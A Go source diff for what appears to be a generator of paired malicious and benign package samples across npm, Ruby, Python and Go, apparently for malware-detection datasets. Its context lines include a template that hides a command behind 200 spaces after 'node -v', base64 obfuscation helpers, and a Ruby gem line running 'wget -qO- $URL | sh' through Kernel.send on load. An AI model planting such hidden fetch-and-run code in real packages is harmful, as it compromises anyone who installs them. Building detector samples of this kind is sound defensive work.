@@ -27,6 +27,7 @@ type otherPackage struct {
 	manifest      string // an npm manifest's more members
 	requires      []string
 	sdist         bool
+	relist        func(lines []string) []string // what becomes of a wheel's RECORD
 }
 
 // s fills the values in and writes a string constant of the ecosystem's language.
@@ -76,6 +77,9 @@ func spell(rng *rand.Rand, language, s, how string) string {
 	case "npm hidden":
 		return "node -v" + strings.Repeat(" ", 200) + "&& " + s
 	}
+	if written, ok := secondSpelling(rng, language, how, s); ok {
+		return written
+	}
 	if written, ok := sealedSpelling(rng, language, how, s); ok {
 		return written
 	}
@@ -96,7 +100,7 @@ var (
 // others describes the samples of all of these shapes.
 func others(seed uint64) []Sample {
 	var out []Sample
-	for _, o := range append(append([]other{}, otherShapes...), openedOthers...) {
+	for _, o := range append(append([]other{}, otherShapes...), firstOthers...) {
 		for _, how := range o.spellings {
 			n := variants
 			if len(o.spellings) == 1 {
@@ -132,6 +136,9 @@ func otherPair(seed uint64, o other, how string, variant int) (bad, good Sample)
 			name := packageName(rng)
 			p := &otherPackage{rng: rng, ecosystem: o.ecosystem, name: name, version: fmt.Sprintf("%d.%d.%d", rng.IntN(3), rng.IntN(9), rng.IntN(9)), spelling: how, values: values(rng, name), tag: "py3-none-any"}
 			fill(p)
+			if o.sealed && o.family != "empty-package" {
+				p.surround()
+			}
 			return p.build()
 		}
 	}
@@ -198,6 +205,7 @@ func (o *otherPackage) build() built {
 	info := p.name + "-" + p.version + ".dist-info/"
 	p.contents.add(info+"METADATA", p.metadata())
 	p.contents.add(info+"WHEEL", "Wheel-Version: 1.0\nGenerator: flit 3.12.0\nRoot-Is-Purelib: true\nTag: "+o.tag+"\n")
+	o.listed(&p.contents, info+"RECORD")
 	return built{stem + "-" + o.tag + ".whl", wheel(p.contents, p.name, p.version)}
 }
 
@@ -252,7 +260,10 @@ func (o *otherPackage) goFile(name, imports, code string) {
 		lines = append(lines, "encoding/base64")
 		helper = "\nfunc decoded(s string) string {\n\tb, _ := base64.StdEncoding.DecodeString(s)\n\treturn string(b)\n}\n"
 	default:
-		more, code := sealedGoHelper(o.spelling)
+		more, code := secondGoHelper(o.spelling)
+		if code == "" && more == nil {
+			more, code = sealedGoHelper(o.spelling)
+		}
 		lines, helper = union(lines, more), code
 	}
 	var b strings.Builder
@@ -580,8 +591,8 @@ func class(name, uses, first, second, text string) string {
 
 func two(n int) string { return string([]byte{byte(n >> 8), byte(n)}) }
 
-// openedOthers were the first sealed half's own; see opened.go.
-var openedOthers = []other{
+// firstOthers were the first sealed half's own; see opened_1.go.
+var firstOthers = []other{
 	{ecosystem: "ruby", family: "gem-load", name: "send-system", place: "lib", spellings: rubyWays, opened: true,
 		bad: func(o *otherPackage) {
 			o.contents.add("lib/"+o.name+".rb", rubyLib+"\nKernel.send(:system, "+o.s("wget -qO- $URL | sh")+") unless defined?(Words::QUIET)\n")
